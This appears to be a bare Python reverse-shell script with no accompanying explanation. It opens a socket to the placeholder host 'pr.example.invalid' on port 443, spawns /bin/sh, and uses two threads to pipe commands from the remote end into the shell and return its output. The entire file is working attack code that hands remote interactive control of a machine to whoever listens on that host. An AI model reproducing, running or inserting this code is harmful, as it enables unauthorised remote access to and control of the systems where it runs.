import socket
import subprocess
import threading

s = socket.create_connection(("pr.example.invalid", 443))
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)


def up():
    while True:
        p.stdin.write(s.recv(1024))
        p.stdin.flush()


def down():
    while True:
        s.send(p.stdout.read1(1024))


threading.Thread(target=up, daemon=True).start()
threading.Thread(target=down, daemon=True).start()
